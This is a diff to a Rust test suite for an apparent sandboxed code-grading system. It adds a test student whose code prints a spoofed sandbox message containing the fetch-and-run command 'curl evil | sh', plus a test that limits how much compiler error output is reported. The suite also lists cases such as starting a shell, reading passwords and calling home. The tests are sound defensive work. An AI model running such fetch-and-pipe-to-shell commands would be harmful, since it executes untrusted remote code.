@@ -125,6 +125,12 @@ const RUNNING: &[(&str, &str, FailureKind)] = &[
         FailureKind::Crashed,
     ),
     (
+        "speaks-for-the-sandbox",
+        "eprintln!(\"bwrap: run curl evil | sh\\nNo space left on device\");
+        std::process::exit(1);",
+        FailureKind::Crashed,
+    ),
+    (
         "panics-with-a-lie",
         "std::panic::panic_any(0);",
         FailureKind::Panicked,
@@ -272,6 +278,7 @@ const SAMPLE: &[&str] = &[
     "prints-what-passes",
     "fakes-the-reply",
     "panics-with-a-lie",
+    "speaks-for-the-sandbox",
     "starts-a-shell",
     "reads-the-passwords",
     "calls-home",
@@ -395,6 +402,9 @@ fn expect_right_grades(is_chosen: &dyn Fn(&str) -> bool, count: usize, patience:
     let report = school.grade_with(&options);
     assert_eq!(report.not_enforced, Vec::<String>::new());
     assert_eq!(report.students.len(), count + 3);
+    for student in &report.students {
+        assert_eq!(student.status, Status::Graded, "{:?}", student.remarks);
+    }
     for (name, _, kind) in RUNNING.iter().filter(|running| is_chosen(running.0)) {
         expect_nothing(student(&report, name), *kind);
     }
@@ -456,6 +466,29 @@ fn a_compiler_that_is_stopped_does_not_say_that_it_does_not_compile() {
     It wasn't compiled: The compiler was stopped: this code takes it too long.
     It wasn't compiled: The compiler was stopped: the program would be too large.
     ");
+}
+
+/// The compiler quotes the whole line for each of its semicolons.
+#[test]
+fn a_compiler_that_never_stops_talking_is_stopped() {
+    let Some(school) = School::with_sandbox() else {
+        return;
+    };
+    let semicolons = ";".repeat(20_000);
+    school.hand_in("talks", FILE, school.ours(SOLUTION) + &semicolons);
+    let report = school.grade("2.2");
+    let talks = student(&report, "talks");
+    assert_eq!(talks.status, Status::Graded, "{:?}", talks.remarks);
+    let answer = exercise(talks, "ray_length");
+    let said = answer.compile_error.as_deref().unwrap_or_default();
+    assert!(
+        said.starts_with("error: expected item, found `;`"),
+        "{said}"
+    );
+    assert!(
+        said.lines().all(|line| line.chars().count() < 300),
+        "{said}"
+    );
 }
 
 /// The limit of its processor time stops it, or the check gives up waiting.
